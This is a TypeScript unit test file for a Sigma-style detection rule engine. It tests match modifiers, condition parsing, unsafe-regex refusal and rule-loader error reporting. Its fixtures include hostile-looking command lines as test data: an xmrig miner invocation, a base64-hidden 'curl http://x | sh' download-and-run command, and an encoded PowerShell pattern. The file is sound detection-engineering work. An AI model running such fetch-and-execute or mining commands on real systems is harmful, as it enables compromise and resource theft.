import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CoalEvent } from '../../model/event.js';
import { compileSelection } from './compile.js';
import { ConditionError, parseCondition } from './condition.js';
import { loadRules } from './index.js';
import { unsafeRegexReason } from './modifiers.js';

const map = { CommandLine: 'process.command_line', DestinationIp: 'destination.ip', Image: 'process.executable' };

function exec(cmd: string, extra: Partial<CoalEvent> = {}): CoalEvent {
  return {
    '@timestamp': '2025-01-01T00:00:00.000Z',
    event: { kind: 'event', category: [], action: 'exec', dataset: 't' },
    process: { command_line: cmd, executable: '/usr/bin/x' },
    original: { Extra: 'Value' },
    coalmine: { ts: 0, format: 't', ref: { file: 'f', line: 1 } },
    ...extra,
  };
}

function matches(selection: unknown, event: CoalEvent): boolean {
  return compileSelection('s', selection, map, new Set())(event, new Map());
}

test('contains, startswith, endswith are case-insensitive by default; cased is not', () => {
  assert.ok(matches({ 'CommandLine|contains': 'XMRIG' }, exec('/tmp/xmrig -B')));
  assert.ok(matches({ 'CommandLine|startswith': '/TMP' }, exec('/tmp/xmrig -B')));
  assert.ok(matches({ 'CommandLine|endswith': '-b' }, exec('/tmp/xmrig -B')));
  assert.ok(!matches({ 'CommandLine|contains|cased': 'XMRIG' }, exec('/tmp/xmrig')));
});

test('a list is OR, |all makes it AND; plain values support * wildcards', () => {
  assert.ok(matches({ 'CommandLine|contains': ['nope', 'xmrig'] }, exec('xmrig')));
  assert.ok(!matches({ 'CommandLine|contains|all': ['-o', '-u'] }, exec('xmrig -o pool')));
  assert.ok(matches({ 'CommandLine|contains|all': ['-o', '-u'] }, exec('xmrig -o pool -u w')));
  assert.ok(matches({ Image: '/usr/*/x' }, exec('')));
});

test('re, cidr, exists, null and base64offset', () => {
  assert.ok(matches({ 'CommandLine|re': 'rx/[0-9]' }, exec('-a rx/0')));
  assert.ok(matches({ 'DestinationIp|cidr': '10.0.0.0/8' }, exec('', { destination: { ip: '10.2.3.4' } })));
  assert.ok(!matches({ 'DestinationIp|cidr': '10.0.0.0/8' }, exec('', { destination: { ip: '11.2.3.4' } })));
  assert.ok(matches({ 'DestinationIp|exists': false }, exec('')));
  assert.ok(matches({ DestinationIp: null }, exec('')));
  const encoded = Buffer.from('echo; curl http://x | sh').toString('base64');
  assert.ok(
    matches({ 'CommandLine|base64offset|contains': 'curl http' }, exec(`bash -c "echo ${encoded} | base64 -d"`)),
  );
});

test('windash matches the dash variants Windows accepts', () => {
  assert.ok(matches({ 'CommandLine|windash|contains': '-enc ' }, exec('powershell /enc AAAA')));
});

test('unmapped fields read the source record and are reported', () => {
  const unmapped = new Set<string>();
  assert.ok(compileSelection('s', { Extra: 'value' }, map, unmapped)(exec(''), new Map()));
  assert.deepEqual([...unmapped], ['Extra']);
});

test('conditions parse with not > and > or precedence, and "1 of" / "all of"', () => {
  assert.deepEqual(parseCondition('a or b and not c'), {
    type: 'or',
    nodes: [
      { type: 'ref', name: 'a' },
      {
        type: 'and',
        nodes: [
          { type: 'ref', name: 'b' },
          { type: 'not', node: { type: 'ref', name: 'c' } },
        ],
      },
    ],
  });
  assert.deepEqual(parseCondition('1 of sel_* and not all of them'), {
    type: 'and',
    nodes: [
      { type: 'of', quantifier: 'one', pattern: 'sel_*' },
      { type: 'not', node: { type: 'of', quantifier: 'all', pattern: 'them' } },
    ],
  });
  assert.throws(() => parseCondition('a and ('), ConditionError);
  assert.throws(() => parseCondition('a b'), ConditionError);
});

test('catastrophic regex shapes are refused', () => {
  assert.ok(unsafeRegexReason('(a+)+$'));
  assert.ok(unsafeRegexReason('(.*)*x'));
  assert.ok(unsafeRegexReason('(a)\\1'));
  assert.equal(unsafeRegexReason('rx/[0-9]+'), undefined);
});

test('the loader collects every error with file:line and still loads the good rules', async () => {
  const set = await loadRules(['test/fixtures/sigma/bad']);
  assert.deepEqual(
    set.rules.map((r) => r.id),
    ['good-one'],
  );
  assert.deepEqual(
    set.errors.map((e) => [e.line, e.code]),
    [
      [10, 'RULE_UNKNOWN_MODIFIER'],
      [19, 'RULE_BAD_CONDITION'],
      [28, 'RULE_UNSAFE_REGEX'],
      [37, 'RULE_NO_SIGNAL'],
      [45, 'RULE_DUPLICATE_ID'],
    ],
  );
  assert.deepEqual(
    set.warnings.map((w) => [w.line, w.code]),
    [[54, 'RULE_UNKNOWN_LOGSOURCE']],
  );
  for (const e of set.errors) assert.equal(e.file, 'test/fixtures/sigma/bad/rules.yml');
});
